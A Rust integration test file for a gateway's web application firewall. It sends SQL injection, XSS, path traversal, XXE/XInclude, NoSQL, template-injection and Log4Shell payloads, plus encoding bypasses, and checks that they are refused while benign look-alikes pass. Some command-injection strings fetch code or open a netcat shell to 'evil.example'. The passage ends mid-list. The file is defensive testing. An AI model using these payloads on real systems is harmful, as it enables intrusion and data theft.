//! The built-in WAF over real sockets: attacks in the query, headers, cookies, JSON and
//! form bodies are refused with their family's reason and the part named; benign
//! look-alikes pass; bodies that cannot be inspected are refused; report mode passes and
//! traces; routes without the WAF are not inspected.

use crate::*;

/// The WAF tests' routes: `guarded` has the WAF on, `plain` does not.
pub(crate) const ROUTES: &str = r#"
[upstreams.main]
targets = ["builtin:echo"]

[[routes]]
id = "guarded"
path_prefix = "/guarded"
upstream = "main"
waf = true

[[routes]]
id = "plain"
path_prefix = "/plain"
upstream = "main"
"#;

/// What `pinpoint waf exclude <request_id>` prints against this test's gateway. (The CLI
/// calls the gateway: it runs off the runtime's thread.)
async fn waf_exclude(gw: &TestGateway, request_id: &str) -> String {
    let (api, key, id) = (gw.api_url(""), gw.admin_key.clone(), request_id.to_owned());
    let out = tokio::task::spawn_blocking(move || {
        std::process::Command::new(env!("CARGO_BIN_EXE_pinpoint"))
            .args(["waf", "exclude", &id, "--api", &api, "--key", &key])
            .output()
    })
    .await
    .unwrap()
    .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

async fn post(gw: &TestGateway, path: &str, content_type: &str, body: &str) -> reqwest::Response {
    gw.http
        .post(gw.url(path))
        .header("content-type", content_type)
        .body(body.to_owned())
        .send()
        .await
        .unwrap()
}

#[tokio::test]
async fn attacks_in_every_part_are_refused_with_the_part_named_and_look_alikes_pass() {
    let gw = start(&format!("[server]\ndata_dir = \"DATA_DIR\"\n{ROUTES}")).await;
    let get = |path: String, header: Option<(&'static str, &'static str)>| {
        let mut request = gw.http.get(gw.url(&path));
        if let Some((name, value)) = header {
            request = request.header(name, value);
        }
        request.send()
    };

    // The query: refused, the part named, the value never echoed.
    let resp = get("/guarded/items?id=1%27%20OR%20%271%27%3D%271".into(), None)
        .await
        .unwrap();
    let body = problem(resp, 403, "waf.sqli").await;
    assert!(body["detail"].as_str().unwrap().contains("`query:id`"), "{body}");
    assert!(!body.to_string().contains("OR '1'"), "{body}");
    let d = gw.decision(body["request_id"].as_str().unwrap()).await;
    let entry = d.deciding_layer().unwrap();
    assert_eq!(entry.rule_id.as_deref(), Some("sqli-libinjection"));
    let note = entry.note.clone().unwrap();
    assert!(
        note.contains("at query:id") && note.contains('#') && !note.contains("'1'='1"),
        "{note}"
    );

    let refused: Vec<(reqwest::Response, &str, &str)> = vec![
        (
            get(
                "/guarded/x".into(),
                Some(("user-agent", "${${lower:j}ndi:ldap://evil.example/a}")),
            )
            .await
            .unwrap(),
            "waf.jndi",
            "header:user-agent",
        ),
        (
            get(
                "/guarded/x".into(),
                Some(("cookie", "theme=%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
            )
            .await
            .unwrap(),
            "waf.xss",
            "cookie:theme",
        ),
        (
            get("/guarded/files?name=..%2F..%2Fetc%2Fpasswd".into(), None)
                .await
                .unwrap(),
            "waf.traversal",
            "query:name",
        ),
        (
            post(
                &gw,
                "/guarded/x",
                "application/json",
                r#"{"items":[{"note":"<img src=x onerror=alert(1)>"}]}"#,
            )
            .await,
            "waf.xss",
            "body:/items/0/note",
        ),
        (
            post(&gw, "/guarded/x", "application/json", r#"{"user":{"$ne":null}}"#).await,
            "waf.nosql",
            "body:/user/$ne",
        ),
        (
            post(
                &gw,
                "/guarded/x",
                "application/x-www-form-urlencoded",
                "comment=1+UNION+SELECT+password+FROM+users--",
            )
            .await,
            "waf.sqli",
            "form:comment",
        ),
    ];
    for (resp, reason, part) in refused {
        let body = problem(resp, 403, reason).await;
        assert!(
            body["detail"].as_str().unwrap().contains(&format!("`{part}`")),
            "{reason}: {body}"
        );
    }

    // A name the attacker chose is never echoed: the part is named by a hash.
    let key = "1' OR '1'='1 <script>x</script>";
    let resp = post(&gw, "/guarded/x", "application/json", &format!("{{\"{key}\":1}}")).await;
    let body = problem(resp, 403, "waf.sqli").await;
    assert!(
        !body.to_string().contains("OR '1'") && body["detail"].as_str().unwrap().contains("`key:#"),
        "{body}"
    );
    // Commands chained into a value, at the default paranoia level.
    let resp = get("/guarded/ping?host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd".into(), None)
        .await
        .unwrap();
    problem(resp, 403, "waf.rce").await;

    // Multipart field values and file names; XML text, attributes and external entities;
    // template expressions.
    let multipart = "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHello\r\n--XyZ\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"../../etc/passwd\"\r\nContent-Type: text/plain\r\n\r\n' OR 1=1 -- file contents are not inspected\r\n--XyZ--\r\n";
    let resp = post(&gw, "/guarded/x", "multipart/form-data; boundary=XyZ", multipart).await;
    let body = problem(resp, 403, "waf.traversal").await;
    assert!(body["detail"].as_str().unwrap().contains("`file:upload`"), "{body}");
    let benign_multipart = multipart.replace("../../etc/passwd", "notes.txt");
    assert_eq!(
        post(
            &gw,
            "/guarded/x",
            "multipart/form-data; boundary=XyZ",
            &benign_multipart
        )
        .await
        .status(),
        200
    );
    let xxe = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>"#;
    problem(post(&gw, "/guarded/x", "application/xml", xxe).await, 403, "waf.xxe").await;
    let xml_sqli = r#"<order><note>1' UNION SELECT password FROM users--</note></order>"#;
    let body = problem(
        post(&gw, "/guarded/x", "application/xml", xml_sqli).await,
        403,
        "waf.sqli",
    )
    .await;
    assert!(body["detail"].as_str().unwrap().contains("`xml:/order/note`"), "{body}");
    assert_eq!(
        post(
            &gw,
            "/guarded/x",
            "application/xml",
            "<order><note>O'Brien's order, select from menu</note></order>"
        )
        .await
        .status(),
        200
    );
    let resp = post(&gw, "/guarded/x", "application/json", r#"{"greeting":"{{7*7}}"}"#).await;
    problem(resp, 403, "waf.template").await;
    problem(
        post(
            &gw,
            "/guarded/x",
            "multipart/form-data; boundary=XyZ",
            "--XyZ\r\nno end",
        )
        .await,
        400,
        "waf.body_unparsable",
    )
    .await;

    // Look-alikes that naive rules refuse.
    let benign = [
        r#"{"name":"O'Brien","bio":"Please select a size from the list; drop by the shop"}"#,
        r#"{"snippet":"```rust\nfn main() { println!(\"hi\"); }\n```","path":"/usr/local/bin/tool"}"#,
        r#"{"template":"Hello {{name}}, it costs ${price}","token":"eyJhbGciOiJIUzI1NiJ9.e30.x","rule":"if x < 10 then show the banner","heart":"Fish & chips <3","ellipsis":"wait... what"}"#,
    ];
    for body in benign {
        assert_eq!(
            post(&gw, "/guarded/x", "application/json", body).await.status(),
            200,
            "{body}"
        );
    }
    assert_eq!(
        get("/guarded/search?q=Tom+%26+Jerry%3A+the+catalogue".into(), None)
            .await
            .unwrap()
            .status(),
        200
    );

    // Double encoding is read both ways; a key named twice is refused, not guessed at.
    let resp = get(
        "/guarded/s?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E".into(),
        None,
    )
    .await
    .unwrap();
    problem(resp, 403, "waf.xss").await;
    let twice = r#"{"q":"1' OR '1'='1","q":"ok"}"#;
    problem(
        post(&gw, "/guarded/x", "application/json", twice).await,
        400,
        "waf.body_unparsable",
    )
    .await;

    // Bodies that cannot be inspected are refused as such.
    problem(
        post(&gw, "/guarded/x", "application/json", "{not json").await,
        400,
        "waf.body_unparsable",
    )
    .await;
    let deep = format!("{}1{}", "[".repeat(70), "]".repeat(70));
    problem(
        post(&gw, "/guarded/x", "application/json", &deep).await,
        400,
        "waf.body_too_deep",
    )
    .await;

    // A route without the WAF is not inspected.
    assert_eq!(
        get("/plain/items?id=1%27%20OR%20%271%27%3D%271".into(), None)
            .await
            .unwrap()
            .status(),
        200
    );
}

#[tokio::test]
async fn report_mode_passes_and_traces_what_would_be_refused() {
    let gw = start(&format!(
        "[server]\ndata_dir = \"DATA_DIR\"\n[waf]\nmode = \"report\"\n{ROUTES}"
    ))
    .await;
    let resp = post(&gw, "/guarded/x", "application/json", r#"{"q":"1' OR '1'='1"}"#).await;
    assert_eq!(resp.status(), 200);
    let id = resp.headers()["x-request-id"].to_str().unwrap().to_owned();
    let d = gw.decision(&id).await;
    let entry = d
        .trace
        .iter()
        .find(|t| t.reason == Some(pinpoint_core::Reason::WafSqli))
        .unwrap();
    assert_eq!(entry.mark, pinpoint_core::Mark::WouldDeny);
    assert!(entry.note.as_deref().unwrap().contains("body:/q"));
}

#[tokio::test]
async fn waf_exclude_prints_the_exclusion_that_lets_a_refused_request_through() {
    let gw = start(&format!(
        "[server]\ndata_dir = \"DATA_DIR\"\nreload_poll_ms = 50\n{ROUTES}"
    ))
    .await;
    let article = r#"{"article":{"html":"<p>Hi</p><script>track()</script>"},"title":"ok"}"#;
    let resp = post(&gw, "/guarded/cms", "application/json", article).await;
    let body = problem(resp, 403, "waf.xss").await;
    let id = body["request_id"].as_str().unwrap().to_owned();
    let printed = waf_exclude(&gw, &id).await;
    assert!(printed.contains("parts = [\"body:/article/html\"]"), "{printed}");
    assert!(
        printed.contains("rules = [\"xss-libinjection\"]") && printed.contains("routes = [\"guarded\"]"),
        "{printed}"
    );
    // Parts named by what the client sent print so that they cover exactly those parts:
    // a key `*` is not a wildcard, a key with `: ` is whole, a control character escaped.
    let odd = r#"{"*":"<script>alert(1)</script>","a: b\u001b":"<script>x()</script>"}"#;
    let body = problem(post(&gw, "/guarded/cms", "application/json", odd).await, 403, "waf.xss").await;
    let odd_id = body["request_id"].as_str().unwrap().to_owned();
    let printed_odd = waf_exclude(&gw, &odd_id).await;
    let parsed: toml::Value = toml::from_str(&printed_odd).unwrap();
    let parts: Vec<&str> = parsed["waf"]["exclusions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["parts"][0].as_str().unwrap())
        .collect();
    assert_eq!(parts, ["body:/\\*", "body:/a: b\u{1b}"], "{printed_odd}");
    // Pasted into the config, it lets this request through, and nothing else.
    let config = std::fs::read_to_string(&gw.config_path).unwrap() + &printed + &printed_odd;
    let before = gw.revision().await;
    std::fs::write(&gw.config_path, config).unwrap();
    poll_until("exclusion applied", || async { gw.revision().await != before }).await;
    assert_eq!(
        post(&gw, "/guarded/cms", "application/json", article).await.status(),
        200
    );
    assert_eq!(post(&gw, "/guarded/cms", "application/json", odd).await.status(), 200);
    problem(
        post(
            &gw,
            "/guarded/cms",
            "application/json",
            r#"{"z":"<script>alert(1)</script>"}"#,
        )
        .await,
        403,
        "waf.xss",
    )
    .await;
    let elsewhere = article.replace("\"title\":\"ok\"", "\"title\":\"<script>x()</script>\"");
    problem(
        post(&gw, "/guarded/cms", "application/json", &elsewhere).await,
        403,
        "waf.xss",
    )
    .await;
}

#[tokio::test]
async fn report_mode_per_family_and_route_body_types_and_every_header() {
    let gw = start(&format!(
        "[server]\ndata_dir = \"DATA_DIR\"\n[waf]\nreport_families = [\"template\"]\n{ROUTES}\n\
         [[routes]]\nid = \"watched\"\npath_prefix = \"/watched\"\nupstream = \"main\"\nwaf = \"report\"\n"
    ))
    .await;
    let decision_of = |resp: &reqwest::Response| resp.headers()["x-request-id"].to_str().unwrap().to_owned();

    // A family in report mode: passes, traced as would-deny with the rule and part.
    let resp = post(&gw, "/guarded/greet", "application/json", r#"{"greeting":"{{7*7}}"}"#).await;
    assert_eq!(resp.status(), 200);
    let d = gw.decision(&decision_of(&resp)).await;
    let entry = d
        .trace
        .iter()
        .find(|t| t.reason == Some(pinpoint_core::Reason::WafTemplate))
        .unwrap();
    assert_eq!(entry.mark, pinpoint_core::Mark::WouldDeny);
    let note = entry.note.as_deref().unwrap();
    assert!(
        note.contains("template-expression (waf.template, pl1, +5, report) at body:/greeting"),
        "{note}"
    );
    // ... while the other families still enforce, also beside a reported one.
    let both = r#"{"greeting":"{{7*7}}","q":"1' OR '1'='1"}"#;
    problem(
        post(&gw, "/guarded/login", "application/json", both).await,
        403,
        "waf.sqli",
    )
    .await;
    // A route in report mode refuses nothing and traces everything.
    let resp = post(
        &gw,
        "/watched/x",
        "application/json",
        r#"{"q":"<script>alert(1)</script>"}"#,
    )
    .await;
    assert_eq!(resp.status(), 200);
    let d = gw.decision(&decision_of(&resp)).await;
    assert!(d
        .trace
        .iter()
        .any(|t| t.reason == Some(pinpoint_core::Reason::WafXss) && t.mark == pinpoint_core::Mark::WouldDeny));

    // Any header a server might log: Log4Shell in a custom header and in Authorization.
    for (name, value) in [
        ("x-api-version", "${jndi:ldap://evil.example/a}"),
        ("authorization", "Bearer ${${lower:j}ndi:ldap://evil.example/a}"),
    ] {
        let resp = gw
            .http
            .get(gw.url("/guarded/x"))
            .header(name, value)
            .send()
            .await
            .unwrap();
        let body = problem(resp, 403, "waf.jndi").await;
        assert!(
            body["detail"].as_str().unwrap().contains(&format!("`header:{name}`")),
            "{body}"
        );
    }
    // Other attacks in custom headers; structured ones (Accept) are not read as prose.
    let resp = gw
        .http
        .get(gw.url("/guarded/x"))
        .header("x-comment", "1' OR '1'='1")
        .send()
        .await
        .unwrap();
    problem(resp, 403, "waf.sqli").await;
    let resp = gw
        .http
        .get(gw.url("/guarded/x"))
        .header("accept", "text/html;q=0.9, */*;q=0.8")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);

    // NoSQL operators in bracketed names (read as objects by PHP, qs and Rails); traversal
    // to system files, file: URLs and `..;/`; script URIs.
    for (request, reason, part) in [
        (
            gw.http.get(gw.url("/guarded/login?user=a&pass[%24ne]=x")),
            "waf.nosql",
            "query:pass[$ne]",
        ),
        (
            gw.http
                .post(gw.url("/guarded/login"))
                .header("content-type", "application/x-www-form-urlencoded")
                .body("user[$regex]=.*"),
            "waf.nosql",
            "form:user[$regex]",
        ),
        (
            gw.http.get(gw.url("/guarded/f?name=%2Fetc%2Fpasswd")),
            "waf.traversal",
            "query:name",
        ),
        (
            gw.http.get(gw.url("/guarded/f?src=file%3A%2F%2F%2Fetc%2Fhosts")),
            "waf.traversal",
            "query:src",
        ),
        (
            gw.http.get(gw.url("/guarded/f?next=%2Fapp%2F..%3B%2Fadmin")),
            "waf.traversal",
            "query:next",
        ),
        (
            gw.http.get(gw.url("/guarded/f?link=JaVaScRiPt%3Aalert(1)")),
            "waf.xss",
            "query:link",
        ),
    ] {
        let body = problem(request.send().await.unwrap(), 403, reason).await;
        assert!(
            body["detail"].as_str().unwrap().contains(&format!("`{part}`")),
            "{reason}: {body}"
        );
    }
    let resp = gw
        .http
        .get(gw.url("/guarded/f?title=javascript%3A+the+good+parts"))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);

    // A body type the WAF does not accept is refused as such (415), before its body is read.
    let resp = post(&gw, "/guarded/x", "application/x-shockwave-flash", "CWS").await;
    let body = problem(resp, 415, "waf.content_type").await;
    assert!(
        body["detail"]
            .as_str()
            .unwrap()
            .contains("application/x-shockwave-flash"),
        "{body}"
    );
    assert_eq!(
        post(&gw, "/guarded/x", "application/vnd.api+json", r#"{"a":"b"}"#)
            .await
            .status(),
        200
    );
    // A bad value for a route's waf is a config error naming it.
    let bad = ROUTES.replace("waf = true", "waf = \"maybe\"");
    let err = pinpoint_core::config::Config::parse(&bad, "bad.toml")
        .unwrap_err()
        .to_string();
    assert!(err.contains("waf must be true, false or \"report\""), "{err}");
}

#[tokio::test]
async fn config_check_names_exclusions_that_never_applied() {
    let exclusions = "\n[[waf.exclusions]]\nid = \"cms-html\"\nroutes = [\"guarded\"]\nrules = [\"xss\"]\nparts = [\"body:/article/html\"]\n\n[[waf.exclusions]]\nid = \"stale\"\nparts = [\"query:legacy\"]\n";
    let gw = start(&format!("[server]\ndata_dir = \"DATA_DIR\"\n{ROUTES}{exclusions}")).await;
    let article = r#"{"article":{"html":"<p>Hi</p><script>track()</script>"}}"#;
    let resp = post(&gw, "/guarded/cms", "application/json", article).await;
    assert_eq!(resp.status(), 200);
    let id = resp.headers()["x-request-id"].to_str().unwrap().to_owned();
    let d = gw.decision(&id).await;
    let applied = d
        .trace
        .iter()
        .filter(|t| t.layer.as_ref() == "waf")
        .find_map(|t| t.rule_id.as_deref());
    assert_eq!(applied, Some("excluded by cms-html"));

    let path = gw.config_path.clone();
    let out = tokio::task::spawn_blocking(move || {
        std::process::Command::new(env!("CARGO_BIN_EXE_pinpoint"))
            .args(["config", "check"])
            .arg(&path)
            .output()
    })
    .await
    .unwrap()
    .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let printed = String::from_utf8(out.stdout).unwrap();
    assert!(
        printed.contains("warning: waf exclusion `stale` never applied to a request in the decision log"),
        "{printed}"
    );
    assert!(!printed.contains("`cms-html` never"), "{printed}");
}

/// The CRS engine (a build with `--features modsecurity`): the same refusals, parts and
/// trace as the built-in engine, with CRS rule ids; exclusions by CRS id; a CRS engine
/// that cannot load is a config error naming the file.
#[cfg(feature = "modsecurity")]
#[tokio::test]
async fn the_crs_engine_refuses_and_traces_like_the_builtin_one() {
    let gw = start(&format!(
        "[server]\ndata_dir = \"DATA_DIR\"\n[waf]\nengine = \"crs\"\n{ROUTES}"
    ))
    .await;
    let resp = gw
        .http
        .get(gw.url("/guarded/items?id=1%27%20OR%20%271%27%3D%271"))
        .header("host", "shop.example")
        .header("user-agent", "Mozilla/5.0")
        .send()
        .await
        .unwrap();
    let body = problem(resp, 403, "waf.sqli").await;
    assert!(body["detail"].as_str().unwrap().contains("`query:id`"), "{body}");
    let d = gw.decision(body["request_id"].as_str().unwrap()).await;
    let entry = d.deciding_layer().unwrap();
    assert_eq!(entry.rule_id.as_deref(), Some("942100"));
    let note = entry.note.as_deref().unwrap();
    assert!(
        note.starts_with("crs: score") && note.contains("(waf.sqli, pl1, +5) at query:id") && !note.contains("'1'='1"),
        "{note}"
    );
    // JSON bodies are parsed by ModSecurity and named by pointer.
    let resp = gw
        .http
        .post(gw.url("/guarded/x"))
        .header("host", "shop.example")
        .header("user-agent", "Mozilla/5.0")
        .header("content-type", "application/json")
        .body(r#"{"items":[{"note":"<script>alert(1)</script>"}]}"#)
        .send()
        .await
        .unwrap();
    let body = problem(resp, 403, "waf.xss").await;
    assert!(
        body["detail"].as_str().unwrap().contains("`body:/items/0/note`"),
        "{body}"
    );
    let benign = gw
        .http
        .post(gw.url("/guarded/x"))
        .header("host", "shop.example")
        .header("user-agent", "Mozilla/5.0")
        .header("content-type", "application/json")
        .body(r#"{"name":"O'Brien","note":"Please select a size"}"#)
        .send()
        .await
        .unwrap();
    assert_eq!(benign.status(), 200);

    // A CRS that cannot load is a config error with the path at fault.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("crs.toml");
    std::fs::write(
        &path,
        format!("[waf]\nengine = \"crs\"\ncrs_rules = \"/nonexistent/crs\"\n{ROUTES}"),
    )
    .unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_pinpoint"))
        .args(["config", "check"])
        .arg(&path)
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("/nonexistent/crs does not exist"), "{err}");
}

/// Without the `modsecurity` feature, asking for the CRS engine is a config error that
/// says how to get it.
#[cfg(not(feature = "modsecurity"))]
#[test]
fn the_crs_engine_needs_its_build() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("crs.toml");
    std::fs::write(&path, format!("[waf]\nengine = \"crs\"\n{ROUTES}")).unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_pinpoint"))
        .args(["config", "check"])
        .arg(&path)
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("--features modsecurity"), "{err}");
}

/// What an outside attack on the WAF found (each reached the upstream before): XML that
/// is not one well-formed document, CDATA, comments splitting keywords, single-quoted
/// attributes, internal entities, external DTDs and XInclude; multipart names, `filename*`,
/// empty file names and doubled headers or boundaries; shell commands spelled through
/// quotes or with numeric and host arguments; templates that call code; case lookups in
/// JNDI; NoSQL operators as plain, dotted or cookie names. Each is refused now; the
/// look-alikes next to them pass.
#[tokio::test]
async fn what_an_outside_attack_found_is_refused_and_look_alikes_pass() {
    let gw = start(&format!("[server]\ndata_dir = \"DATA_DIR\"\n{ROUTES}")).await;
    let xml = "application/xml";
    let json = "application/json";
    let multipart = "multipart/form-data; boundary=XB";
    let part = |disposition: &str, value: &str| {
        format!("--XB\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{value}\r\n--XB--\r\n")
    };
    let refused: Vec<(&str, String, &str)> = vec![
        (xml, "1' OR '1'='1".into(), "waf.body_unparsable"),
        (xml, "<a>1' OR '1'='1".into(), "waf.body_unparsable"),
        (xml, "<a><b></a>x".into(), "waf.body_unparsable"),
        (xml, "<a><![CDATA[1' OR '1'='1]]></a>".into(), "waf.sqli"),
        (xml, "<a>1' OR<!-- -->'1'='1</a>".into(), "waf.sqli"),
        (xml, "<a b='../../../etc/passwd'>x</a>".into(), "waf.traversal"),
        (xml, r#"<!DOCTYPE a [<!ENTITY e "1' OR '1'='1">]><a>&e;</a>"#.into(), "waf.xxe"),
        (xml, r#"<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>"#.into(), "waf.xxe"),
        (
            xml,
            "<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd' parse='text'/></a>".into(),
            "waf.xxe",
        ),
        (multipart, part(r#"name="pass[$ne]""#, "x"), "waf.nosql"),
        (multipart, part(r#"name="1' OR '1'='1""#, "x"), "waf.sqli"),
        (multipart, part(r#"name="f"; filename="a.txt"; filename*=UTF-8''..%2F..%2Fetc%2Fx"#, "x"), "waf.traversal"),
        (multipart, part(r#"name="q"; filename="""#, "1' OR '1'='1"), "waf.sqli"),
        (
            multipart,
            "--XB\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a\"\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nx\r\n--XB--\r\n".into(),
            "waf.body_unparsable",
        ),
        (json, r#"{"v":"a;sleep 5"}"#.into(), "waf.rce"),
        (json, r#"{"v":"a;w'h'o'am'i"}"#.into(), "waf.rce"),
        (json, r#"{"v":"a;id "}"#.into(), "waf.rce"),
        (json, r#"{"v":"a||sleep${IFS}5"}"#.into(), "waf.rce"),
        (json, r#"{"v":"a;nslookup x.evil.example"}"#.into(), "waf.rce"),
        (json, r#"{"v":"{% import os %}{{os.system('id')}}"}"#.into(), "waf.template"),
        (json, r#"{"v":"<%= system('id') %>"}"#.into(), "waf.template"),
        (json, r#"{"v":"{{['id']|filter('system')}}"}"#.into(), "waf.template"),
        (json, r#"{"v":"${${lower:jndi:ldap}://x.evil.example/a}"}"#.into(), "waf.jndi"),
        (json, r#"{"v":"${jnd${lower:i${x:k5:-:}}ldap://x.evil.example/a}"}"#.into(), "waf.jndi"),
        // The second round.
        (
            xml,
            "<a xmlns:xi='http://www.w3.org/2003/XInclude'><xi:include href='http://169.254.169.254/'/></a>".into(),
            "waf.xxe",
        ),
        (
            xml,
            "<a xmlns:xi='http://www.w3.org/2001/XInclud&#101;'><xi:include href='http://x/'/></a>".into(),
            "waf.xxe",
        ),
        (xml, r#"<!DOCTYPE a [<!ATTLIST a b CDATA "1' union select 1--">]><a>ok</a>"#.into(), "waf.xxe"),
        (xml, "<?xml version='1.0' encoding='UTF-7'?><a>+ADw-script+AD4-</a>".into(), "waf.body_unparsable"),
        (xml, "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.cookie)</script></svg>".into(), "waf.xss"),
        (xml, "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><g/></svg>".into(), "waf.xss"),
        (
            multipart,
            "--XB\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\nok\r\n--XB--\r\n--XB\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--XB--\r\n".into(),
            "waf.body_unparsable",
        ),
        (multipart, part("name=\"a\"; filename*=UTF-8''x.txt", "1' OR '1'='1"), "waf.sqli"),
        (
            multipart,
            "--XB\r\nContent-Disposition: form-data;\r\n name=\"pass[$ne]\"\r\n\r\nx\r\n--XB--\r\n".into(),
            "waf.body_unparsable",
        ),
        (
            multipart,
            "--XB\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Transfer-Encoding: base64\r\n\r\nMScgT1IgJzEnPScx\r\n--XB--\r\n".into(),
            "waf.body_unparsable",
        ),
        ("text/plain", r#"{"a":"1\u0027 union select password from users--"}"#.into(), "waf.sqli"),
        (json, r#"{"v":"`wget evil/x -O /tmp/x`"}"#.into(), "waf.rce"),
        (json, r#"{"v":";busybox nc evil.example 1 -e sh"}"#.into(), "waf.rce"),
        (json, r#"{"v":"%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}"}"#.into(), "waf.template"),
        (json, r#"{"v":"{system('id')}"}"#.into(), "waf.template"),
    ];
    for (content_type, body, reason) in &refused {
        let resp = post(&gw, "/guarded/x", content_type, body).await;
        let status = if reason.ends_with("unparsable") { 400 } else { 403 };
        problem(resp, status, reason).await;
    }
    for (query, reason) in [
        ("$where=this.password.length%3E0", "waf.nosql"),
        ("pass.$gt=", "waf.nosql"),
    ] {
        let resp = gw
            .http
            .get(gw.url(&format!("/guarded/x?{query}")))
            .send()
            .await
            .unwrap();
        problem(resp, 403, reason).await;
    }
    let resp = gw
        .http
        .get(gw.url("/guarded/x"))
        .header("cookie", "pass[$ne]=x")
        .send()
        .await
        .unwrap();
    problem(resp, 403, "waf.nosql").await;
    let resp = post(
        &gw,
        "/guarded/x",
        "application/x-www-form-urlencoded",
        r#"{"a":{"$ne":1}}"#,
    )
    .await;
    problem(resp, 403, "waf.nosql").await;

    // The third round: a boundary inside a line; JSON under another type, or none, that
    // strict reading stops in (a duplicate key, NaN) or that is UTF-16; text that is not
    // UTF-8; Java's case mapping and long defaults in lookups; a tab entity in a URL.
    let text = "text/plain";
    let utf16_json: String =
        r#"{"q":"<img src=x onerror=alert(1)>"}"#.encode_utf16().flat_map(u16::to_le_bytes).map(char::from).collect();
    let third: Vec<(&str, String, &str)> = vec![
        (
            multipart,
            "--XB\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx--XB\r\nContent-Disposition: form-data; name=\"b\"; filename=\"f.txt\"\r\n\r\n1' OR '1'='1\r\n--XB--\r\n".into(),
            "waf.body_unparsable",
        ),
        (
            "application/x-www-form-urlencoded",
            r#"{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#.into(),
            "waf.xss",
        ),
        (text, r#"{"q":"x","q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#.into(), "waf.xss"),
        ("", r#"{"a":NaN,"q":"1\u0027 OR \u00271\u0027=\u00271"}"#.into(), "waf.sqli"),
        (text, utf16_json, "waf.xss"),
        (json, r#"{"file":"/etc/passwd"}"#.into(), "waf.traversal"),
        (
            "application/json; charset=utf-7",
            r#"{"q":"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"}"#.into(),
            "waf.body_unparsable",
        ),
        ("text/plain; charset=IBM037", "x".into(), "waf.body_unparsable"),
        (json, r#"{"file":"/etc/shadow and more"}"#.into(), "waf.traversal"),
        (
            json,
            format!(r#"{{"q":"${{${{env:{}:-j}}ndi:ldap://evil.example/a}}"}}"#, "A".repeat(70)),
            "waf.jndi",
        ),
        (json, r#"{"q":"<a href=\"jav&#x09;ascript:alert(1)\">x</a>"}"#.into(), "waf.xss"),
        (json, r#"{"q":"<a href=\"jav&Tab;ascript:alert(1)\">x</a>"}"#.into(), "waf.xss"),
    ];
    for (content_type, body, reason) in &third {
        let mut request = gw.http.post(gw.url("/guarded/x")).body(body.clone());
        if !content_type.is_empty() {
            request = request.header("content-type", *content_type);
        }
        let status = if reason.ends_with("unparsable") { 400 } else { 403 };
        problem(request.send().await.unwrap(), status, reason).await;
    }
    let not_utf8 = gw
        .http
        .post(gw.url("/guarded/x"))
        .header("content-type", "text/plain")
        .body(b"1' OR '1'='1 \xff".to_vec())
        .send()
        .await
        .unwrap();
    problem(not_utf8, 403, "waf.sqli").await;
    // Text with a stray byte under a binary type, and JSON after a byte-order mark.
    for (content_type, body, reason) in [
        (
            "application/octet-stream",
            b"{\"a\":\"<script>alert(1)</script>\",\"b\":\"\xff\"}".to_vec(),
            "waf.xss",
        ),
        (
            "text/plain",
            b"\xef\xbb\xbf{\"a\":\"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"}".to_vec(),
            "waf.xss",
        ),
        // The fourth round: JSON only a lenient reader reads (a comment before it, a
        // byte-order mark under a form type), its strings escaped; a NUL some readers drop.
        (
            "text/plain",
            b"// c\n{\"a\":\"\\u003cscript>alert(1)\\u003c/script>\"}".to_vec(),
            "waf.xss",
        ),
        (
            "application/octet-stream",
            b"/*c*/{\"a\":\"\\u003cscript>alert(1)\\u003c/script>\"}".to_vec(),
            "waf.xss",
        ),
        (
            "text/plain",
            b"# c\n{\"a\":\"1\\u0027 union select password from users--\"}".to_vec(),
            "waf.sqli",
        ),
        (
            "application/x-www-form-urlencoded",
            b"\xef\xbb\xbf{\"a\":\"\\u0024{jndi:ldap://x.evil.example/a}\"}".to_vec(),
            "waf.jndi",
        ),
        ("application/json", b"{\"v\":\"x;id\\u0000\"}".to_vec(), "waf.rce"),
        // The fifth round: a prefix with an apostrophe before lenient JSON (its values are
        // read strictly from the first bracket), an array after a comment, and UTF-16
        // JSON under a form's type.
        (
            "text/plain",
            b"// it's\n{\"a\":\"1\\u0027 OR \\u00271\\u0027=\\u00271\"}".to_vec(),
            "waf.sqli",
        ),
        ("text/plain", b")]}',\n{\"a\":\"1' OR '1'='1\"}".to_vec(), "waf.sqli"),
        ("text/plain", b"// c\n[\"x;id\"]".to_vec(), "waf.rce"),
        (
            "application/x-www-form-urlencoded",
            r#"{"a":"\u003cscript>alert(1)\u003c/script>"}"#.encode_utf16().flat_map(u16::to_le_bytes).collect(),
            "waf.xss",
        ),
